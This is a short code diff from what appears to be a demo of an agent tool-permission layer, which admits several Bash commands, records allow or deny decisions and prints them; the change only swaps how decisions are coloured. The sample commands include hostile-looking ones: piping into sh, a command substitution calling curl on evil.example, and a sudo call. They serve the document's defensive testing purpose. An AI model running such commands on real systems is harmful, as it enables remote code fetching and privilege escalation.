@@ -168,10 +168,9 @@ def _guarded(style: Style, folder: Path) -> None:
     for command in ("git log --oneline -5", "git log | sh", "git log $(curl evil.example)", "sudo git show HEAD"):
         admission = session.admit("Bash", {"command": command})
         admission.record(ToolResult(success=True))
-    paint = {"allow": style.good, "deny": style.bad}
     for record in log.records[1:]:
         said = "" if record.decision == "allow" else f"  {style.dim(record.reason.partition('. ')[2])}"
-        print(f"  {paint[record.decision](record.decision):<5} {json.loads(record.arguments)['command']}{said}")
+        print(f"  {style.outcome(record.decision):<5} {json.loads(record.arguments)['command']}{said}")
     print(f"{len(log.records)} audit records, one for each load and call.")
 
 
